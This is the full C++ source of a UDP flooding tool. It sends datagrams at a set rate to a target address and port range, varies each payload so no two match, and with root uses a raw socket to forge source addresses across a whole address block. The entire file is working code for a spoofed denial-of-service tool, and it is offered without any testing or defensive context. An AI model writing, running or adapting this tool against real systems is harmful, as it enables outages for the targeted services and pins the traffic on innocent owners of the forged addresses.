// Sends one datagram over and over at a steady rate, from one source address, from a thousand forged ones, or
// through a socket of its own. Eight `#` in the datagram become a number that grows,
// so that no two are alike.
//   udp-flood ADDRESS PORT[-LAST] RATE SECONDS FILE [FROM[/BITS] [SOURCE-PORT]]
// FROM needs root: a raw socket. With /BITS each datagram comes from another address of the block. Prints
// what it sent.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iterator>
#include <random>
#include <string>
#include <thread>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

constexpr std::size_t kBatch = 64;
constexpr std::size_t kHeaders = sizeof(iphdr) + sizeof(udphdr);
constexpr std::string_view kMark = "########";

struct Flood {
  in_addr_t to = 0;
  std::uint16_t first_port = 0;
  std::uint16_t last_port = 0;
  double rate = 0;
  double seconds = 0;
  std::string text;
  bool is_forged = false;
  std::uint32_t from = 0;         // host order
  std::uint32_t from_others = 0;  // the bits that differ
  std::uint16_t from_port = 5060;
};

std::vector<std::size_t> marks_of(const std::string& text) {
  std::vector<std::size_t> found;
  for (auto at = text.find(kMark); at != std::string::npos; at = text.find(kMark, at + kMark.size()))
    found.push_back(at);
  return found;
}

std::uint16_t checksum(const void* header, std::size_t bytes) {
  std::uint32_t sum = 0;
  for (std::size_t i = 0; i < bytes; i += 2) {
    std::uint16_t word;
    std::memcpy(&word, static_cast<const char*>(header) + i, sizeof word);
    sum += word;
  }
  while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

class Sender {
 public:
  explicit Sender(const Flood& flood) : flood_(flood), marks_(marks_of(flood.text)) {
    socket_ = flood.is_forged ? socket(AF_INET, SOCK_RAW, IPPROTO_RAW) : socket(AF_INET, SOCK_DGRAM, 0);
    if (socket_ < 0) {
      std::perror("udp-flood: socket");
      std::exit(1);
    }
    const int room = 4 << 20;
    setsockopt(socket_, SOL_SOCKET, SO_SNDBUF, &room, sizeof room);
    for (auto& datagram : datagrams_)
      datagram = std::string(flood.is_forged ? kHeaders : 0, '\0') + flood.text;
  }
  ~Sender() { close(socket_); }

  std::uint64_t send(std::size_t count) {
    std::array<mmsghdr, kBatch> messages{};
    std::array<iovec, kBatch> parts{};
    std::array<sockaddr_in, kBatch> targets{};
    for (std::size_t i = 0; i < count; ++i) {
      targets[i] = {AF_INET, htons(draw_port()), {flood_.to}, {}};
      fill(datagrams_[i], ntohs(targets[i].sin_port));
      parts[i] = {datagrams_[i].data(), datagrams_[i].size()};
      messages[i].msg_hdr = {&targets[i], sizeof targets[i], &parts[i], 1, nullptr, 0, 0};
    }
    const int sent = sendmmsg(socket_, messages.data(), static_cast<unsigned>(count), 0);
    return sent < 0 ? 0 : static_cast<std::uint64_t>(sent);
  }

 private:
  std::uint16_t draw_port() {
    const int span = flood_.last_port - flood_.first_port + 1;
    return static_cast<std::uint16_t>(flood_.first_port +
                                      static_cast<int>(random_() % static_cast<unsigned>(span)));
  }

  void fill(std::string& datagram, std::uint16_t port) {
    char number[9];
    std::snprintf(number, sizeof number, "%08llu", static_cast<unsigned long long>(++number_ % 100'000'000));
    const std::size_t text = flood_.is_forged ? kHeaders : 0;
    for (const std::size_t mark : marks_) datagram.replace(text + mark, kMark.size(), number);
    if (flood_.is_forged) write_headers(datagram, port);
  }

  void write_headers(std::string& datagram, std::uint16_t port) {
    iphdr ip{};
    ip.version = 4;
    ip.ihl = 5;
    ip.ttl = 64;
    ip.protocol = IPPROTO_UDP;
    ip.tot_len = htons(static_cast<std::uint16_t>(datagram.size()));
    ip.saddr = htonl(flood_.from | (static_cast<std::uint32_t>(random_()) & flood_.from_others));
    ip.daddr = flood_.to;
    ip.check = checksum(&ip, sizeof ip);
    udphdr udp{};
    udp.source = htons(flood_.from_port);
    udp.dest = htons(port);
    udp.len = htons(static_cast<std::uint16_t>(datagram.size() - sizeof ip));
    std::memcpy(datagram.data(), &ip, sizeof ip);
    std::memcpy(datagram.data() + sizeof ip, &udp, sizeof udp);
  }

  const Flood flood_;
  const std::vector<std::size_t> marks_;
  int socket_ = -1;
  std::mt19937 random_{std::random_device{}()};
  std::uint64_t number_ = static_cast<std::uint64_t>(getpid()) * 1000;
  std::array<std::string, kBatch> datagrams_;
};

std::uint64_t run(const Flood& flood) {
  Sender sender(flood);
  const auto begun = Clock::now();
  std::uint64_t offered = 0;
  std::uint64_t sent = 0;
  for (;;) {
    const double elapsed = std::chrono::duration<double>(Clock::now() - begun).count();
    if (elapsed >= flood.seconds) return sent;
    const auto due = static_cast<std::uint64_t>(elapsed * flood.rate);
    if (due <= offered) {
      std::this_thread::sleep_for(std::chrono::microseconds(500));
      continue;
    }
    const std::size_t count = std::min<std::uint64_t>(due - offered, kBatch);
    offered += count;
    sent += sender.send(count);
  }
}

bool parse_source(const char* text, Flood& flood) {
  std::string address = text;
  const auto slash = address.find('/');
  const int bits = slash == std::string::npos ? 32 : std::atoi(address.c_str() + slash + 1);
  if (slash != std::string::npos) address.resize(slash);
  in_addr parsed{};
  if (inet_pton(AF_INET, address.c_str(), &parsed) != 1 || bits < 1 || bits > 32) return false;
  flood.is_forged = true;
  flood.from = ntohl(parsed.s_addr);
  flood.from_others = bits == 32 ? 0 : 0xffffffffU >> bits;
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  Flood flood;
  in_addr to{};
  std::ifstream file(argc > 5 ? argv[5] : "");
  if (argc < 6 || argc > 8 || inet_pton(AF_INET, argv[1], &to) != 1 || !file ||
      (argc > 6 && !parse_source(argv[6], flood))) {
    std::fprintf(stderr,
                 "usage: udp-flood ADDRESS PORT[-LAST] RATE SECONDS FILE [FROM[/BITS] [SOURCE-PORT]]\n");
    return 2;
  }
  flood.to = to.s_addr;
  const char* last = std::strchr(argv[2], '-');
  flood.first_port = static_cast<std::uint16_t>(std::atoi(argv[2]));
  flood.last_port = last == nullptr ? flood.first_port : static_cast<std::uint16_t>(std::atoi(last + 1));
  flood.rate = std::atof(argv[3]);
  flood.seconds = std::atof(argv[4]);
  flood.text.assign(std::istreambuf_iterator<char>(file), {});
  if (argc > 7) flood.from_port = static_cast<std::uint16_t>(std::atoi(argv[7]));
  const std::uint64_t sent = run(flood);
  std::printf("%llu datagrams, %llu bytes\n", static_cast<unsigned long long>(sent),
              static_cast<unsigned long long>(sent * flood.text.size()));
  return 0;
}
